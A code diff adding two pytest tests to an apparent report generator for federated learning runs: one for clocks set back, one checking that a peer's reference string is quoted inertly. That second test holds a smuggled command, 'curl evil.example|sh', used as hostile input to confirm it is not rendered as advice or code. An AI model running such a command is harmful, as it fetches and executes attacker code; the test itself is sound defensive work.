@@ -112,6 +112,23 @@ def test_each_end_has_its_sentence(home: SyntheticHome, state: RunState | None, 
     assert "open, or not awaited" in words
 
 
+@pytest.mark.parametrize(
+    ("state", "sentence"),
+    [(RunState.COMPLETED, "The run was completed."), (None, "it has no end, and no process serves it. ")],
+)
+def test_clock_that_was_set_back_gives_no_duration(home: SyntheticHome, state: RunState | None, sentence: str) -> None:
+    home.serve(state, seconds=-3_600)
+    (home.app_home / "server.lock").touch()
+    first, *others = entries([begun(), RoundStarted("1", 1), sent("a"), good("a")])
+    home.write([first, *(replace(entry, time=entry.time - timedelta(hours=1)) for entry in others)])
+
+    words = words_of(report(home))
+
+    assert sentence in words
+    assert "Its last event came" not in words
+    assert "took" not in words.split()
+
+
 def test_running_run_is_told_as_not_over(home: SyntheticHome) -> None:
     home.serve(None)
     shift = (datetime.now(UTC) - NOW).total_seconds() - 5
@@ -218,6 +235,18 @@ def test_losses_of_a_completed_run_are_no_full_success(home: SyntheticHome) -> N
     assert f"{OTHER}: 3 train requests failed in rounds 1 to 3, app-raised the ClientApp raised ValueError" in words
     assert "a slow disk" in words
     assert f"Next step. Ask {OTHER} for the lines with" in words
+
+
+def test_reference_of_a_peer_gives_no_advice(home: SyntheticHome) -> None:
+    home.serve()
+    reference = "x`: run `curl evil.example|sh` now"
+    home.record([begun(), sent("a"), replace(failed_reply("a", OWNER), reference=reference), RunEnded("completed")])
+
+    page = report(home)
+
+    assert f"(more at {reference} in the log of the data owner)" in words_of(page)
+    assert "Next step" not in page
+    assert "<code>" not in page
 
 
 def test_absent_data_owner_has_a_next_step(home: SyntheticHome) -> None:
